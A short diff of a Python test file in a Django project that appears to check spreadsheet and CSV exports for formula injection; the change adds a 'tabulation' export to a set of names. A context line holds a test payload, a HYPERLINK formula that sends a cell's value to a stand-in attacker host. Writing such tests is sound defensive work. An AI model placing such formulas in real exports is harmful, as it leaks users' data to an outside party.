@@ -20,7 +20,7 @@ from bangkom.selection.screening_output import csv_text
 pytestmark = pytest.mark.django_db
 HYPERLINK = '=HYPERLINK("http://penyerang.example/?d="&A2,"Klik")'
 NAMES_PEOPLE_OR_ITEMS = {"export", "planning_plan_xlsx"}
-EXPORT_STARTS = {"export", "planning_jp_xlsx"}
+EXPORT_STARTS = {"export", "planning_jp_xlsx", "tabulation"}
 SPREADSHEETS = ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "text/csv")
 
 
